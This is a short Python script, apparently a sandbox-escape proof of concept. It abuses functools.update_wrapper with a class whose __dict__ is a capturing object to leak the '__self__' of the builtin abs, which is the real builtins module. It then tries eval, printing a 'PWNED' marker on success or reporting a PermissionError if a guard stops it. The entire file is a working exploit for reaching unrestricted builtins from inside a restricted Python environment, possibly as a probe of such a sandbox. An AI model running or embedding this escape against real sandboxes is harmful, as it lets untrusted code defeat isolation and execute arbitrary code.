import functools
box = []
class Catcher:
    def update(self, d):
        box.append(d)
class Sink:
    __dict__ = Catcher()
def leak_self(fn):
    pm = functools.partialmethod(staticmethod(fn))
    class H:
        m = pm
    res = H().m
    box.clear()
    functools.update_wrapper(Sink(), res)
    for k, v in box[0].items():
        if k.endswith('self__'):
            return v
b = leak_self(abs)
print("real builtins module:", b)
try:
    r = b.eval("1+1")
    print("PW" + "NED", "eval ran", r)
except PermissionError as e:
    print("eval stopped:", e)
